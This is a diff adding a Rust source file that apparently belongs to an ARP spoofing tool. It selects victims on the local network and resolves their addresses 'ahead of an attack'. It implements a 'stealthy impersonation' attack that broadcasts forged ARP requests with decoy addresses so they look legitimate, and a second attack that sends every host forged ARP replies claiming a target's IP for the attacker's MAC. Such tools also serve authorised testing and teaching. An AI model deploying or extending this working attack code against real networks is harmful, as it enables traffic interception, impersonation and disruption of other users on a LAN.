@@ -0,0 +1,168 @@
+use std::net::Ipv4Addr;
+use std::time::Duration;
+
+use pnet::packet::arp::ArpOperations;
+use pnet::util::MacAddr;
+
+use super::nic::{InterfaceError, NetworkInterface};
+use super::{ArpFrameBuilder, ArpSession, Host, ScanOptions, TargetSet};
+use crate::utils::random_ip_in_network;
+
+/// How long to wait for addresses to answer when resolving them ahead of an attack.
+const RESOLVE_TIMEOUT: Duration = Duration::from_secs(5);
+
+/// Removes the hosts which cannot be reached through the interface, namely the ones outside of its network, the
+/// network and broadcast addresses, and the interface itself, and returns them.
+pub fn retain_on_link(
+    interface: &NetworkInterface,
+    hosts: &mut Vec<Host>,
+) -> Result<Vec<Host>, InterfaceError> {
+    let reachable = TargetSet::for_interface(interface)?;
+    let (on_link, off_link) = hosts.drain(..).partition(|host| reachable.contains(host.ip));
+
+    *hosts = on_link;
+
+    Ok(off_link)
+}
+
+/// Splits `addresses` into the hosts among them which are already known and the addresses which still have to be
+/// resolved.
+pub fn split_known(addresses: &TargetSet, hosts: &[Host]) -> (Vec<Host>, TargetSet) {
+    let known: Vec<Host> = hosts
+        .iter()
+        .filter(|host| addresses.contains(host.ip))
+        .cloned()
+        .collect();
+
+    let mut unknown = addresses.clone();
+    for host in &known {
+        unknown.remove(host.ip);
+    }
+
+    (known, unknown)
+}
+
+/// Picks the known hosts which are victims and not excluded. Without a list of victims, every known host is one.
+///
+/// Returns the selected hosts along with the listed victims which are not among the known hosts.
+pub fn select_victims(
+    hosts: &[Host],
+    victims: Option<&TargetSet>,
+    exclude: &TargetSet,
+) -> (Vec<Host>, TargetSet) {
+    let Some(victims) = victims else {
+        let selected = hosts
+            .iter()
+            .filter(|host| !exclude.contains(host.ip))
+            .cloned()
+            .collect();
+
+        return (selected, TargetSet::new());
+    };
+
+    let mut victims = victims.clone();
+    victims.exclude(exclude);
+
+    split_known(&victims, hosts)
+}
+
+impl ArpSession {
+    /// Resolves the given addresses ahead of an attack, resending the requests to the ones which do not answer right
+    /// away.
+    ///
+    /// The hosts which answered are returned ordered by IP address.
+    pub fn resolve_hosts(&mut self, addresses: &TargetSet) -> Result<Vec<Host>, InterfaceError> {
+        let options = ScanOptions {
+            timeout: RESOLVE_TIMEOUT,
+            retries: 2,
+            ..Default::default()
+        };
+
+        self.scan(addresses, &options)
+    }
+
+    /// Performs a single round of the stealthy impersonation attack.
+    ///
+    /// An ARP request for a random address in the network is broadcast with `target` as its sender IP. Hosts which
+    /// learn from the requests they see then associate the target with the interface's MAC address, or with `as_mac`
+    /// if it is given.
+    pub fn impersonate_stealthy(
+        &mut self,
+        target: Ipv4Addr,
+        as_mac: Option<MacAddr>,
+    ) -> Result<(), InterfaceError> {
+        let Some(net) = self.interface().network() else {
+            return Err(InterfaceError::MissingIP);
+        };
+
+        // Generate a random IP in the range of the network to make the ARP request look legitimate.
+        let decoy_ip = loop {
+            let random_ip = random_ip_in_network(&net);
+
+            // Ensure that the random IP is different from the target in order to prevent any interference from a potential ARP response from the target.
+            if random_ip.ne(&target) {
+                break random_ip;
+            }
+        };
+
+        let frame = self
+            .impersonation_frame(target, as_mac)?
+            .ethernet_destination(MacAddr::broadcast())
+            .operation(ArpOperations::Request)
+            .target_hw_addr(MacAddr::zero())
+            .target_proto_addr(decoy_ip)
+            .build();
+
+        self.send_frame(&frame)
+    }
+
+    /// Performs a single round of the impersonation attack by sending every host a forged ARP reply which maps
+    /// `target` to the interface's MAC address, or to `as_mac` if it is given. The target itself is skipped, and so is
+    /// any host at `as_mac`, which would otherwise be told that its own address belongs to the target.
+    ///
+    /// Returns the number of replies sent.
+    pub fn impersonate_hosts(
+        &mut self,
+        target: Ipv4Addr,
+        hosts: &[Host],
+        as_mac: Option<MacAddr>,
+    ) -> Result<u64, InterfaceError> {
+        let builder = self.impersonation_frame(target, as_mac)?.operation(ArpOperations::Reply);
+        let mut sent = 0;
+
+        for host in hosts
+            .iter()
+            .filter(|host| host.ip != target && Some(host.mac) != as_mac)
+        {
+            let frame = builder
+                .ethernet_destination(host.mac)
+                .target_hw_addr(host.mac)
+                .target_proto_addr(host.ip)
+                .build();
+
+            self.send_frame(&frame)?;
+            sent += 1;
+        }
+
+        Ok(sent)
+    }
+
+    /// Starts a frame which claims `target` for `as_mac`, or for the interface's MAC address.
+    ///
+    /// Note: The Ethernet source is always the interface's MAC address. Sending frames from another MAC address would
+    /// teach switches that it is behind our port, so they would deliver its traffic to us instead of to it.
+    fn impersonation_frame(
+        &self,
+        target: Ipv4Addr,
+        as_mac: Option<MacAddr>,
+    ) -> Result<ArpFrameBuilder, InterfaceError> {
+        let Some(interface_mac) = self.interface().mac() else {
+            return Err(InterfaceError::MissingMAC);
+        };
+
+        Ok(ArpFrameBuilder::new()
+            .ethernet_source(interface_mac)
+            .sender_hw_addr(as_mac.unwrap_or(interface_mac))
+            .sender_proto_addr(target))
+    }
+}